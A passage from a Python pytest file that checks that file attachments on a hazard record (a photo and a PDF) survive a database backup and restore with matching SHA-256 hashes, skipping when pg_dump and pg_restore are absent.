                                                 tmp_path: Path) -> None:
    from tests.test_faults import empty_database

    if db_url.startswith("postgresql") and not (_has("pg_dump") and _has("pg_restore")):
        pytest.skip("pg_dump and pg_restore are not installed")
    photo, document = phone_photo(), pdf(2)
    rows = attached(engine, [("IMG_2041.jpg", photo), ("通知.pdf", document)], record_id=hazard.id or 0)
    backup = backup_database(engine, tmp_path / "backups" / "park.backup")
    with empty_database(db_url, tmp_path) as restored_url:
        restored = make_engine(restored_url)
        try:
            restore_database(restored, backup)
            with Session(restored) as s:
                listed = attachments_of(s, "hazard", hazard.id or 0)
                originals = [read_copy(s, ADMIN, row.id or 0, "original") for row in listed]
            assert [row.sha256 for row in listed] == [row.sha256 for row in rows]
            assert [hashlib.sha256(copy.data).hexdigest() for copy in originals if copy] == [
                hashlib.sha256(photo).hexdigest(), hashlib.sha256(document).hexdigest()]
        finally:
            restored.dispose()


def _has(program: str) -> bool:
    import shutil

    return shutil.which(program) is not None
